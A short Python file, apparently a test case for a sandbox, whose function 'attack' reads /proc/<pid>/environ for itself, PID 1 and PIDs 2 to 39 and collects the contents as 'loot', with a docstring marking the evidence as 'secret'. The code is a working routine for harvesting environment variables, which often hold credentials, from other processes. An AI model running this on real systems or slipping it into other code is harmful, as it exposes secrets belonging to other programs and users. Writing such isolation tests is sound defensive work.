"""Read the environment of this and of every other process from /proc.

Evidence: secret
Sandbox: violation, ok
"""


def attack(target):
    loot = []
    for process in ["self", "1", "thread-self", *map(str, range(2, 40))]:
        try:
            with open(f"/proc/{process}/environ", "rb") as environ:
                loot.append(environ.read(65536).decode("utf-8", "replace"))
        except OSError:
            continue
    return loot
